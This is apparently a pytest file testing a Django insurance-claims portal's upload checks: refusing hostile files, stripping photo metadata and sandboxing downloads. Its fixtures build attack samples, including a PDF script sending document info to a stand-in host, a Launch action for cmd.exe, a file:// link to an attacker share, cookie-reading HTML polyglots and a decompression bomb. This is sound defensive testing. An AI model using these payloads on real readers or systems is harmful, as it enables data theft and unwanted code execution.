"""Claim documents are what they claim to be (claims/uploads.py): hostile files are refused and
leave nothing behind, pictures are stored re-encoded without their metadata, and documents are
served so that nothing in them can act as the portal."""

from __future__ import annotations

import hashlib
import io
import struct
import zlib

import pytest
from django.conf import settings
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from claims import services
from claims.models import Claim, ClaimDocument
from claims.uploads import MAX_IMAGE_PIXELS
from tests import factories

# --- files ---------------------------------------------------------------------------------------


def _name(value: str) -> NameObject:
    return NameObject(value)


def pdf(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value
    return action


def _open_action_javascript(writer: PdfWriter) -> None:
    js = _action("/JavaScript", JS=TextStringObject("app.launchURL('http://x/?'+this.info);"))
    writer._root_object[_name("/OpenAction")] = writer._add_object(js)


def _open_action_launch(writer: PdfWriter) -> None:
    launch = _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe"))
    writer._root_object[_name("/OpenAction")] = launch


def _document_javascript(writer: PdfWriter) -> None:
    js = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    tree = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("a"), js])})
    writer._root_object[_name("/Names")] = DictionaryObject(
        {_name("/JavaScript"): writer._add_object(tree)}
    )


def _page_opens_action(writer: PdfWriter) -> None:
    # Hex-escaped in the file (/J#61vaScript) is the same name once parsed.
    page = writer.pages[0]
    page[_name("/AA")] = DictionaryObject(
        {_name("/O"): _action("/JavaScript", JS=TextStringObject("app.alert(2)"))}
    )


def _embedded_file(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00" + bytes(60))


def _file_link(writer: PdfWriter) -> None:
    writer.add_annotation(0, Link(rect=(10, 10, 200, 40), url="file://attacker/share/x.exe"))


def _password(writer: PdfWriter) -> None:
    writer.encrypt("secret")


def png(size: tuple[int, int] = (40, 30), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, format="PNG", **options)
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG whose header announces ``width`` × ``height`` pixels: what a decompression bomb
    looks like before it is decoded (its few kilobytes would expand to gigabytes)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1 + width * 3) * 16)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def photo_with_gps() -> bytes:
    """A phone photo: EXIF with the maker, the rotation and the GPS position, and a comment."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMakerXYZ"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to view
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (43.0, 53.0, 1.5)
    gps[3], gps[4] = "E", (125.0, 19.0, 2.25)
    out = io.BytesIO()
    Image.new("RGB", (64, 32), (250, 250, 250)).save(
        out, format="JPEG", exif=exif, comment=b"secret-comment"
    )
    return out.getvalue()


HOSTILE = {
    "png-magic-then-html": b"\x89PNG\r\n\x1a\n<html><script>alert(document.cookie)</script>",
    "png-magic-then-svg": (
        b'\x89PNG\r\n\x1a\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    ),
    "jpeg-magic-then-html": b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>",
    "png-magic-then-zeros": b"\x89PNG\r\n\x1a\n" + bytes(64),
    "pdf-open-action-javascript": pdf(_open_action_javascript),
    "pdf-open-action-launch": pdf(_open_action_launch),
    "pdf-document-javascript": pdf(_document_javascript),
    "pdf-page-open-action": pdf(_page_opens_action),
    "pdf-embedded-file": pdf(_embedded_file),
    "pdf-file-link": pdf(_file_link),
    "pdf-password": pdf(_password),
    "pdf-header-then-executable": b"%PDF-1.7\n" + b"MZ\x90\x00\x03" + bytes(400),
    "pdf-then-executable": pdf() + b"MZ\x90\x00\x03" + bytes(400),
    "five-bytes": b"%PDF-",
    "picture-bomb": png_header(20_000, 20_000),
    "picture-64-megapixels": png_header(8_000, 8_000),
    "plain-text": b"just text, named .pdf",
}


# --- fixtures ------------------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    """Uploads go to a directory of this test's own, so what is left there can be counted."""
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path), "base_url": None},
        },
    }
    return tmp_path


@pytest.fixture
def claim(world, covered) -> Claim:
    enrollment, _run = covered
    return factories.ClaimFactory(enrollment=enrollment, reported_by=world.clerk_a)


def stored_files(media) -> list:
    return [path for path in media.rglob("*") if path.is_file()]


def add(claim, world, data: bytes, name: str = "file", requirement: str = "id_copy"):
    return services.claim_document_add(
        claim=claim,
        user=world.clerk_a,
        requirement=requirement,
        upload=SimpleUploadedFile(name, data),
    )


# --- refused -------------------------------------------------------------------------------------


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_document_is_refused_and_leaves_nothing(claim, world, media, data):
    with pytest.raises(services.ClaimError):
        add(claim, world, data, name="invoice.pdf")
    assert not ClaimDocument.objects.exists()
    assert stored_files(media) == []
    claim.refresh_from_db()
    assert claim.status == Claim.Status.REPORTED


def test_the_picture_limit_is_what_the_bomb_exceeds():
    assert 20_000 * 20_000 > MAX_IMAGE_PIXELS > 48_000_000  # a 48-megapixel photo still fits


@pytest.mark.parametrize(
    ("case", "words"),
    [
        ("pdf-open-action-javascript", "print it to a new PDF"),
        ("pdf-then-executable", "could not be read as one"),
        ("five-bytes", "could not be read as one"),
        ("pdf-password", "protected by a password"),
        ("png-magic-then-html", "could not be read"),
        ("picture-bomb", "too large"),
    ],
)
def test_the_clerk_is_told_why_through_the_page(client, claim, world, media, case, words):
    client.force_login(world.clerk_a)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.post(
        reverse("claims:claim_document_add", args=[claim.pk]),
        {"requirement": "invoice", "file": SimpleUploadedFile("invoice.pdf", HOSTILE[case])},
    )
    assert response.status_code == 302
    shown = [str(m) for m in get_messages(response.wsgi_request)]
    assert len(shown) == 1 and words in shown[0], shown
    assert not ClaimDocument.objects.exists()
    assert stored_files(media) == []


def test_a_failure_after_the_file_is_written_removes_it(claim, world, media, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(services, "_after_documents_change", broken)
    with pytest.raises(RuntimeError):
        add(claim, world, factories.pdf_document())
    assert not ClaimDocument.objects.exists()
    assert stored_files(media) == []


# --- accepted ------------------------------------------------------------------------------------


def test_photo_is_stored_re_encoded_without_exif_or_gps(claim, world, media):
    original = photo_with_gps()
    assert b"PhoneMakerXYZ" in original
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)

    document = add(claim, world, original, name="身份证.jpg")

    stored = document.file.open("rb").read()
    document.file.close()
    assert stored != original
    assert document.content_type == ClaimDocument.Kind.JPEG
    assert document.size == len(stored)
    assert document.sha256 == hashlib.sha256(stored).hexdigest()
    picture = Image.open(io.BytesIO(stored))
    assert picture.format == "JPEG"
    assert not picture.getexif() and not picture.getexif().get_ifd(0x8825)
    assert "exif" not in picture.info and "comment" not in picture.info
    for secret in (b"Exif", b"PhoneMakerXYZ", b"secret-comment"):
        assert secret not in stored
    # Turned upright by the rotation EXIF recorded, since the rotation is gone with it.
    assert picture.size == (32, 64)
    assert [p.name for p in stored_files(media)] == [document.file.name.rsplit("/", 1)[1]]


def test_picture_loses_what_was_hidden_after_it(claim, world, media):
    original = png(pnginfo=None) + b"<html><script>alert(1)</script></html>"
    document = add(claim, world, original, name="bank-card.png")
    stored = document.file.open("rb").read()
    document.file.close()
    assert document.content_type == ClaimDocument.Kind.PNG
    assert b"script" not in stored and stored.endswith(b"IEND\xaeB`\x82")
    assert Image.open(io.BytesIO(stored)).size == (40, 30)


@pytest.mark.parametrize(
    "change",
    [
        None,
        # A link to a web page, and a first view of the first page: ordinary, not active.
        lambda w: w.add_annotation(0, Link(rect=(0, 0, 90, 20), url="https://www.example.cn/")),
        lambda w: w._root_object.__setitem__(
            _name("/OpenAction"), ArrayObject([w.pages[0].indirect_reference, _name("/Fit")])
        ),
    ],
    ids=["blank", "web-link", "open-at-page"],
)
def test_ordinary_pdf_is_accepted_as_uploaded(claim, world, media, change):
    original = pdf(change)
    document = add(claim, world, original, name="发票.pdf")
    stored = document.file.open("rb").read()
    document.file.close()
    assert stored == original
    assert document.content_type == ClaimDocument.Kind.PDF
    assert len(PdfReader(io.BytesIO(stored)).pages) == 1


def test_pdf_with_an_incremental_update_is_accepted(claim, world, media):
    # Signed electronic invoices are saved this way: a second revision appended after %%EOF.
    original = pdf()
    writer = PdfWriter(io.BytesIO(original), incremental=True)
    writer.add_metadata({"/Title": "发票"})
    out = io.BytesIO()
    writer.write(out)
    updated = out.getvalue()
    assert updated.startswith(original) and updated.count(b"%%EOF") == 2
    document = add(claim, world, updated, name="电子发票.pdf")
    assert document.content_type == ClaimDocument.Kind.PDF


# --- served --------------------------------------------------------------------------------------


def _download(client, claim, document):
    url = reverse("claims:claim_document_download", args=[claim.pk, document.pk])
    response = client.get(url)
    body = b"".join(response.streaming_content)
    return response, body


def _sandboxed(response) -> None:
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert policy.split(";")[0].strip() == "sandbox"
    assert "default-src 'none'" in policy and "script-src" not in policy


def test_pdf_is_downloaded_as_an_attachment_in_a_sandbox(client, claim, world, media):
    document = add(claim, world, factories.pdf_document(), name="<script>.pdf")
    client.force_login(world.office_staff)
    response, body = _download(client, claim, document)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f'filename="{claim.number}-id_copy-{document.pk}.pdf"' in disposition
    assert "script" not in disposition  # the clerk's file name is a label only
    _sandboxed(response)
    assert body.startswith(b"%PDF-")


def test_picture_is_shown_inline_in_a_sandbox(client, claim, world, media):
    document = add(claim, world, factories.png_document(), name="id.png")
    client.force_login(world.office_staff)
    response, body = _download(client, claim, document)
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith("inline;")
    assert response["Content-Disposition"].endswith('.png"')
    _sandboxed(response)
    assert Image.open(io.BytesIO(body)).format == "PNG"
